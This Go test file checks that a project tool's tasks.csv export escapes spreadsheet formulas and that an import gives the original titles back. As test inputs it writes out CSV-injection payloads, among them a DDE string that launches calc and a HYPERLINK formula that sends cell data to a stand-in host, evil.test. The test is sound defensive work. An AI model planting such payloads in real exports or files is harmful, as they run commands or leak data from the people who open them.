package projects_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"testing"
)

// What people type goes into the export's tasks.csv as text a spreadsheet will not run
// (=HYPERLINK(...), @SUM(...), +, -, a full-width =), and an import of that file gives the
// same titles back.
func TestExportCSVHasNoFormulas(t *testing.T) {
	eachDB(t, func(t *testing.T, w *world) {
		pw := newPagesWorld(t, w)
		pid := w.project(w.manager, map[string]any{"name": "Formulas", "code": "FRM"})
		list := w.taskList(pid, "=cmd|' /C calc'!A0")
		titles := []string{`=HYPERLINK("http://evil.test/?"&A1,"open")`, "@SUM(A1:A9)", "+1+1", "-2+3", "＝1+1", "'=already quoted"}
		for _, title := range titles {
			w.task(w.manager, pid, list, title, map[string]any{"description": "=1+1"})
		}
		r := want(t, "export", w.as(w.manager).Get(w.path("/projects/%d/export.zip", pid)), http.StatusOK)
		z, err := zip.NewReader(bytes.NewReader(r.Body), int64(len(r.Body)))
		if err != nil {
			t.Fatal(err)
		}
		var data []byte
		for _, f := range z.File {
			if f.Name == "tasks.csv" {
				rc, _ := f.Open()
				data, _ = io.ReadAll(rc)
				rc.Close()
			}
		}
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil || len(rows) != len(titles)+1 {
			t.Fatalf("tasks.csv: %v %q", err, rows)
		}
		for _, row := range rows[1:] {
			for j, cell := range row {
				if cell != "" && (cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@' || cell[0] == '\t' || cell[0] == '\r') {
					t.Errorf("column %s holds a formula: %q", rows[0][j], cell)
				}
			}
		}
		// Imported back into another project (same list name), the titles are as typed.
		into := pw.pid
		w.taskList(into, "=cmd|' /C calc'!A0")
		want(t, "import", sendFile(t, w.as(w.manager), w.path("/projects/%d/import", into), "tasks.csv", data), http.StatusCreated)
		got := map[string]bool{}
		var page struct {
			Items []struct {
				Title       string `json:"title"`
				Description string `json:"description"`
			} `json:"items"`
		}
		w.want(w.as(w.manager).Get(w.path("/projects/%d/tasks?limit=200", into)), http.StatusOK).JSON(t, &page)
		for _, it := range page.Items {
			got[it.Title] = true
		}
		for _, title := range titles {
			if !got[title] {
				t.Errorf("after the import, no task titled %q (have %v)", title, got)
			}
		}
	})
}
